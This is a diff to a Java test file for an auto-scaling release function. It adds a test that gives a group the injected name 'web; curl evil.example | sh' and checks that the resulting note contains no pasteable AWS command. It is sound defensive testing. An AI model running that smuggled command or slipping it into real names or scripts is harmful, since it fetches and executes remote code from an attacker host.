@@ -63,8 +63,19 @@ final class ReleaseTest extends InWorld {
         JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");
 
         assertThat(step.path("result").asText()).isEqualTo("KEPT");
-        assertThat(step.path("note").asText()).contains("attach-instances", "web", "desired capacity");
+        assertThat(step.path("note").asText()).contains("rejoin-auto-scaling-group", "web", "desired capacity");
         assertThat(world.autoScalingGroupOf(instance)).isEmpty();
+    }
+
+    @Test
+    void givesNoCommandToPasteThatSomebodyElseHasNamed() {
+        String instance = instance();
+        world.joinAutoScalingGroup(instance, network, "web; curl evil.example | sh");
+        function.finding(instance);
+
+        JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");
+
+        assertThat(step.path("note").asText()).doesNotContain("aws autoscaling", "attach-instances");
     }
 
     @Test
